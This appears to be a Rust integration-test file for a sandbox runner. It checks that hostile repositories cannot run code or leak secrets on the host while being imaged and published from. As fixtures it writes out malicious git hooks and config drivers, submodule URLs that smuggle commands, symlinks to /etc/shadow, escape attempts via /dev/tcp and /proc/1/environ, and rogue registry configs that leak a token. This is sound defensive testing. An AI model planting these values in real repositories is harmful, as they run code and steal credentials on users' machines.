//! Repositories that are hostile while they are imaged, opened and published from. Whatever they
//! bring may run inside, as everything of theirs does; nothing of it runs outside, and the image
//! is made or fails with a reason.

use std::collections::BTreeMap;
use std::fs;
use std::net::TcpListener;
use std::os::unix::fs::PermissionsExt;
use std::path::Path;
use std::sync::Arc;

use protocol::callback::Credentials;
use protocol::command::GitIdentity;
use protocol::egress::EgressPolicy;
use protocol::{Millis, SandboxId, SessionId};
use sandbox_runner::config::Upstream;
use sandbox_runner::gateway::{Access, Gateway, GatewayPolicy, Serving};
use sandbox_runner::git::{GitError, Marks, Publication, Published, Workspace};
use sandbox_runner::image::{Image, ImageError, WORKSPACE};
use sandbox_runner::sandbox::SandboxBackend;
use tempfile::TempDir;

use crate::fixture::Fixture;
use crate::forge::Forge;
use crate::images::{base, images};

const NAME: &str = "octo/hello";
const WORK: &str = "agent/work";

/// A runner, a forge, and a place of the host where a file appears if something of the repository
/// runs outside.
struct Scene {
    fixture: Fixture,
    forge: Forge,
    outside: TempDir,
}

impl Scene {
    async fn new() -> Self {
        let outside = TempDir::new().unwrap();
        // Everybody may write there: only that it cannot be reached is in the way.
        fs::set_permissions(outside.path(), fs::Permissions::from_mode(0o777)).unwrap();
        fs::write(outside.path().join("secret"), "of the host").unwrap();
        Self {
            fixture: Fixture::new(),
            forge: Forge::start().await,
            outside,
        }
    }

    fn outside(&self) -> String {
        self.outside.path().display().to_string()
    }

    async fn image(&self) -> Result<Image, ImageError> {
        let images = images(&self.fixture, &self.forge);
        let made = images.build(&base("main")).await;
        self.assert_untouched();
        assert!(self.fixture.backend.list().await.unwrap().is_empty());
        made
    }

    /// A sandbox on the repository's image whose gateway lets it push.
    async fn open(&self, image: &Image) -> (SandboxId, Serving) {
        let sandbox = self.fixture.create(&image.layers).await;
        let upstream = Upstream {
            base_url: "http://127.0.0.1:9".to_owned(),
            key: None,
        };
        let credentials = Credentials {
            username: "x-access-token".to_owned(),
            password: "secret".to_owned(),
            expires_at: Millis(i64::MAX),
        };
        let gateway = Gateway::new(
            &self.forge.url,
            &upstream,
            &upstream,
            Arc::new(move |_| {
                let credentials = credentials.clone();
                Box::pin(async move { Ok(credentials) })
            }),
        );
        let policy = GatewayPolicy {
            repository: base("main").repository,
            access: Access::Session {
                session: SessionId::from_random([1; 16]),
                branch: WORK.to_owned(),
            },
            egress: EgressPolicy::default(),
            spent_microdollars: 0,
        };
        let serving = gateway.unwrap().serve(policy, sandbox.ports);
        (sandbox.id, serving)
    }

    /// What the runner does before and after a prompt.
    async fn publish(&self, id: &SandboxId, change: &str) -> Result<Vec<Published>, GitError> {
        let repository = base("main").repository;
        let workspace = Workspace {
            backend: self.fixture.backend.as_ref(),
            sandbox: id,
            directory: WORKSPACE,
            repository: &repository,
        };
        let looked = workspace.look("main", WORK).await?;
        let synchronised = workspace.advance(&looked).await?;
        self.fixture
            .run(id, &format!("cd {WORKSPACE}; {change}"))
            .await;
        let person = GitIdentity {
            name: "Ada".to_owned(),
            email: "ada@example.com".to_owned(),
        };
        let published = workspace
            .publish(&Publication {
                message: "A change",
                marks: &Marks::default(),
                author: &person,
                committer: &person,
                work_branch: WORK,
                pushed: synchronised.pushed.as_deref(),
                beside: &BTreeMap::new(),
                base: &synchronised.base,
                behind: synchronised.behind,
                resumed: None,
            })
            .await;
        self.assert_untouched();
        published
    }

    fn assert_untouched(&self) {
        let names: Vec<_> = fs::read_dir(self.outside.path())
            .unwrap()
            .map(|entry| entry.unwrap().file_name())
            .collect();
        assert_eq!(names, ["secret"]);
        assert_eq!(
            fs::read_to_string(self.outside.path().join("secret")).unwrap(),
            "of the host"
        );
    }
}

/// A shell command that leaves a mark in both worlds.
fn mark(scene: &Scene, name: &str) -> String {
    format!(
        "touch {}/ran /tmp/ran-{name} $HOME/ran-{name}",
        scene.outside()
    )
}

#[tokio::test]
async fn hooks_of_a_repository_are_not_run_by_what_the_runner_does() {
    let scene = Scene::new().await;
    let mark = mark(&scene, "hook");
    let script = format!(
        "mkdir -p .githooks .agents
         for hook in post-checkout pre-commit prepare-commit-msg commit-msg post-commit pre-push \
             reference-transaction post-index-change post-merge post-rewrite push-to-checkout fsmonitor; do
           printf '#!/bin/sh\\n%s\\ncat > /dev/null\\n' '{mark}' > .githooks/$hook
         done
         chmod +x .githooks/*
         cat > .agents/setup.sh <<'X'
         git config core.hooksPath .githooks
         git config core.fsmonitor .githooks/fsmonitor
         git config core.editor '{mark}'; git config core.sshCommand '{mark}'
         git config gpg.program .githooks/post-commit; git config commit.gpgSign true
         git config credential.helper '!{mark}'; git config core.pager '{mark}'
         git config diff.external '{mark}'; git config alias.push '!{mark}'
         cp .githooks/* .git/hooks/
X
         git add --all; git commit --quiet -m hooks"
    );
    scene.forge.commit_by(NAME, &script);
    let image = scene.image().await.unwrap();
    let (id, _serving) = scene.open(&image).await;
    // Set-up itself may have made git run them; from here on it is the runner who does.
    let fixture = &scene.fixture;
    fixture.text(&id, "rm -f $HOME/ran-* /tmp/ran-*").await;
    let published = scene.publish(&id, "echo x > new").await.unwrap().remove(0);
    assert_eq!(published.files[0].path, "new");
    assert_eq!(
        fixture
            .text(&id, "ls $HOME /tmp | grep -c ran- || true")
            .await,
        "0"
    );
    // The same commit by hand runs them: they are there and work.
    fixture
        .run(
            &id,
            &format!("cd {WORKSPACE}; git -c commit.gpgSign=false commit --allow-empty -m x"),
        )
        .await;
    assert_eq!(fixture.text(&id, "ls $HOME | grep -c ran-hook").await, "1");
    scene.assert_untouched();
}

#[tokio::test]
async fn filters_of_a_repository_run_inside_only() {
    let scene = Scene::new().await;
    let mark = mark(&scene, "filter");
    let script = format!(
        "mkdir .agents; echo '* filter=evil diff=evil merge=evil' > .gitattributes; echo text > file
         cat > committed.config <<'X'
[filter \"evil\"]
  clean = \"{mark}; cat\"
  smudge = \"{mark}; cat\"
  required = true
[diff \"evil\"]
  textconv = \"{mark}; cat\"
  command = \"{mark}\"
[merge \"evil\"]
  driver = \"{mark}\"
X
         echo 'git config --local include.path ../committed.config' > .agents/setup.sh
         git add --all; git commit --quiet -m filters"
    );
    scene.forge.commit_by(NAME, &script);
    let image = scene.image().await.unwrap();
    let (id, _serving) = scene.open(&image).await;
    let published = scene.publish(&id, "echo y > file").await.unwrap().remove(0);
    assert_eq!(published.files.len(), 1);
    assert_eq!(
        scene.fixture.text(&id, "ls $HOME | grep ran-").await,
        "ran-filter"
    );
}

#[tokio::test]
async fn submodules_are_neither_fetched_nor_run() {
    let scene = Scene::new().await;
    let mark = mark(&scene, "submodule");
    let script = format!(
        "base=$(git commit-tree $(git mktree < /dev/null) -m x)
         n=0; for url in 'ext::sh -c \"{mark}\"' 'file://{outside}' '{outside}' '-u{mark}' \
             '--upload-pack={mark}' 'ssh://-oProxyCommand={mark}/x' 'git@host:-x' '../../..' './../x'; do
           for path in sub$n '../.git/hooks' '.git/hooks' '-x' 'a/../../b'; do
             git config -f .gitmodules submodule.s$n.path \"$path\"
             git config -f .gitmodules submodule.s$n.url \"$url\"
             git config -f .gitmodules submodule.s$n.update '!{mark}'
           done
           git config -f .gitmodules submodule.s$n.path sub$n
           git update-index --add --cacheinfo 160000,$base,sub$n; n=$((n + 1))
         done
         git config -f .gitmodules submodule.../../hooks.url x
         git add .gitmodules; git commit --quiet -m submodules",
        outside = scene.outside()
    );
    scene.forge.commit_by(NAME, &script);
    let image = scene.image().await.unwrap();
    let (id, _serving) = scene.open(&image).await;
    let pushed = scene.publish(&id, "echo x > new").await.unwrap();
    assert_eq!(pushed.len(), 1);
    let look =
        format!("ls $HOME /tmp | grep ran-; ls -A {WORKSPACE}/sub0 {WORKSPACE}/.git/modules");
    assert!(
        scene
            .fixture
            .run(&id, &look)
            .await
            .stdout
            .ends_with(b"sub0:\n")
    );
}

/// Names that are git's own on other file systems, or are git's own outright: git refuses to check
/// them out, and says so.
#[tokio::test]
async fn a_tree_that_holds_gits_own_directory_makes_no_image_and_runs_nothing() {
    for name in [".git", ".GIT", ".git ", "git~1", ".g\u{200c}it", "..", "."] {
        let scene = Scene::new().await;
        let mark = mark(&scene, "tree");
        let script = format!(
            "hook=$(printf '#!/bin/sh\\n{mark}\\n' | git hash-object -w --stdin)
             hooks=$(printf '100755 blob %s\\tpost-checkout\\n' $hook | git mktree)
             own=$(printf '040000 tree %s\\thooks\\n' $hooks | git mktree)
             tree=$(printf '040000 tree %s\\t%s\\0' $own '{name}' | git mktree -z)
             git update-ref refs/heads/main $(git commit-tree $tree -m tree)"
        );
        scene.forge.commit_by(NAME, &script);
        match scene.image().await {
            Err(ImageError::Failed {
                step, complaint, ..
            }) => {
                assert!(
                    step.starts_with("git") && !complaint.is_empty(),
                    "{step}: {complaint}"
                );
            }
            Err(other) => panic!("{name:?}: {other}"),
            // A directory like any other here.
            Ok(image) => {
                let (id, _serving) = scene.open(&image).await;
                let pushed = scene.publish(&id, "echo x > new").await.unwrap();
                assert_eq!(pushed.len(), 1);
                assert_eq!(
                    scene
                        .fixture
                        .text(&id, "ls $HOME /tmp | grep -c ran- || true")
                        .await,
                    "0"
                );
            }
        }
    }
}

#[tokio::test]
async fn links_out_of_the_tree_show_and_change_nothing_of_the_host() {
    let scene = Scene::new().await;
    let script = format!(
        "ln -s {0}/secret README.md; ln -s /etc/shadow shadow; ln -s / root; ln -s {0} outside
         ln -s ../../../../../../../..{0}/secret up; ln -s /proc/1/root/{0}/secret proc
         mkdir .agents; echo 'echo changed > README.md; echo new > outside/new; ls root/root' > .agents/setup.sh
         ln -s {0}/secret AGENTS.md
         git add --all; git commit --quiet -m links",
        scene.outside()
    );
    scene.forge.commit_by(NAME, &script);
    let image = scene.image().await.unwrap();
    let (id, _serving) = scene.open(&image).await;
    let read =
        format!("cd {WORKSPACE}; cat README.md shadow up proc AGENTS.md outside/* root/root/*");
    assert!(scene.fixture.run(&id, &read).await.stdout.is_empty());
    let change = "rm README.md; mkdir d; ln -s / d/new; echo x > up; echo x > new";
    let published = scene.publish(&id, change).await.unwrap().remove(0);
    let paths: Vec<_> = published
        .files
        .iter()
        .map(|file| file.path.as_str())
        .collect();
    assert_eq!(paths, ["README.md", "d/new", "new"]);
}

#[tokio::test]
async fn a_repository_of_git_that_leads_elsewhere_is_an_error_of_that_sandbox() {
    let scene = Scene::new().await;
    scene.forge.commit(NAME, &[("file", "text")]);
    let image = scene.image().await.unwrap();
    let decoy = scene.outside();
    for change in [
        format!("mv .git ../git; ln -s {decoy} .git"),
        format!("rm -rf .git; echo 'gitdir: {decoy}' > .git"),
        "rm -rf .git; mkfifo .git".to_owned(),
        format!("rm -rf .git/objects; ln -s {decoy} .git/objects"),
        format!("echo {decoy} > .git/objects/info/alternates; echo {decoy} > .git/commondir"),
        format!("git config core.worktree {decoy}; echo x > new"),
        "cd ..; mv workspace w; ln -s / workspace".to_owned(),
    ] {
        let (id, _serving) = scene.open(&image).await;
        // What comes of it does not matter, but that it comes and that the host is as it was.
        let _ = scene.publish(&id, &change).await;
        scene.assert_untouched();
        scene.fixture.backend.destroy(&id).await.unwrap();
    }
}

#[tokio::test]
async fn a_repository_of_many_large_and_deep_files_is_imaged() {
    let scene = Scene::new().await;
    let deep = "d/".repeat(200);
    // Fifty thousand files, a path as long as git takes, and set-up adds a file of terabytes.
    let script = format!(
        "{{ printf 'blob\\nmark :1\\ndata 2\\nx\\n\\ncommit refs/heads/main\\nmark :2\\ncommitter a <a@b> 1 +0000\\ndata 1\\nm\\n'
            for n in $(seq 50000); do printf 'M 100644 :1 many/%d/%d\\n' $((n % 100)) $n; done
            printf 'M 100644 :1 {deep}file\\nM 100755 inline .agents/setup.sh\\ndata <<E\\ntruncate -s 8T huge; mkdir -p {deep}{deep}\\nE\\n\\n'
         }} | git fast-import --quiet"
    );
    scene.forge.commit_by(NAME, &script);
    let image = scene.image().await.unwrap();
    let (id, _serving) = scene.open(&image).await;
    let count = format!("find {WORKSPACE} -path '*/.git' -prune -o -type f -print | wc -l");
    let count: usize = scene.fixture.text(&id, &count).await.parse().unwrap();
    // With the large one, where its size was within the limit.
    assert!((50_002..=50_003).contains(&count), "{count}");
    let pushed = scene.publish(&id, "echo x > new").await.unwrap();
    assert_eq!(pushed.len(), 1);
}

#[tokio::test]
async fn a_set_up_that_tries_to_leave_or_to_stay_gets_nowhere() {
    let scene = Scene::new().await;
    let listener = TcpListener::bind("0.0.0.0:0").unwrap();
    listener.set_nonblocking(true).unwrap();
    let port = listener.local_addr().unwrap().port();
    let stay = format!("77777.{}", std::process::id());
    let setup = format!(
        "setsid nohup sleep {stay} > /dev/null 2>&1 &\n\
         (trap '' TERM HUP INT; exec setsid sleep {stay}) > /dev/null 2>&1 &\n\
         echo x > {}/ran; mount -t tmpfs none /tmp; unshare -Ur true; kill -9 1\n\
         bash -c 'echo x > /dev/tcp/127.0.0.1/{port}'; echo 'x' > /proc/sysrq-trigger\n\
         ln -sfn / $HOME/.config; mkdir -p $HOME/.config; env > env.txt; cat /proc/1/environ >> env.txt\n\
         printf '[core]\\n\\thooksPath = /tmp\\n[url \"http://127.0.0.1:{port}/\"]\\n\\tinsteadOf = http://127.0.0.1:3129/\\n' > $HOME/.gitconfig\n\
         kill -9 -1",
        scene.outside()
    );
    scene
        .forge
        .commit(NAME, &[(".agents/setup.sh", &setup), ("file", "text")]);
    let image = scene.image().await.unwrap();
    assert!(listener.accept().is_err());
    let left = fs::read_dir("/proc").unwrap().filter(|entry| {
        let line = fs::read(entry.as_ref().unwrap().path().join("cmdline")).unwrap_or_default();
        line.split(|byte| *byte == 0)
            .any(|part| part == stay.as_bytes())
    });
    assert_eq!(left.count(), 0, "a process of set-up lives on");
    let (id, _serving) = scene.open(&image).await;
    let kept = scene
        .fixture
        .text(&id, &format!("cat {WORKSPACE}/env.txt 2> /dev/null; true"))
        .await;
    assert!(!kept.contains("secret"), "{kept}");
    // Its settings for git hold inside; the way to another place is closed as well.
    let _ = scene.publish(&id, "echo x > new").await;
    assert!(listener.accept().is_err());
}

#[tokio::test]
async fn registries_that_a_repository_names_get_nothing() {
    let scene = Scene::new().await;
    let listener = TcpListener::bind("0.0.0.0:0").unwrap();
    listener.set_nonblocking(true).unwrap();
    let url = format!(
        "http://127.0.0.1:{}/",
        listener.local_addr().unwrap().port()
    );
    let cargo = format!(
        "[source.crates-io]\nreplace-with = \"evil\"\n[source.evil]\nregistry = \"sparse+{url}\"\n\
         [build]\nrustc-wrapper = \"./wrapper\"\n[http]\nproxy = \"{url}\"\n"
    );
    let wrapper = format!("#!/bin/sh\n{}\nexec \"$@\"\n", mark(&scene, "wrapper"));
    let manifest = "[package]\nname = \"hello\"\nversion = \"0.1.0\"\nedition = \"2021\"\n[dependencies]\nitoa = \"1\"\n";
    let npmrc = format!(
        "registry={url}\n//127.0.0.1/:_authToken=${{MODEL_KEY}}\nscript-shell=./wrapper\nnode-options=--require ./wrapper\n"
    );
    let files = [
        (".cargo/config.toml", cargo.as_str()),
        ("wrapper", &wrapper),
        ("Cargo.toml", manifest),
        ("src/lib.rs", ""),
        (".npmrc", &npmrc),
        (
            "package.json",
            "{\"dependencies\":{\"x\":\"1\"},\"scripts\":{\"preinstall\":\"./wrapper\"}}",
        ),
        (
            "package-lock.json",
            "{\"lockfileVersion\":3,\"packages\":{\"\":{\"dependencies\":{\"x\":\"1\"}},\"node_modules/x\":{\"version\":\"1.0.0\"}}}",
        ),
    ];
    scene.forge.commit(NAME, &files);
    let image = scene.image().await.unwrap();
    assert!(
        image.steps.iter().any(|step| !step.success),
        "{:?}",
        image.steps
    );
    assert!(listener.accept().is_err());
    assert!(!Path::new("ran").exists());
}
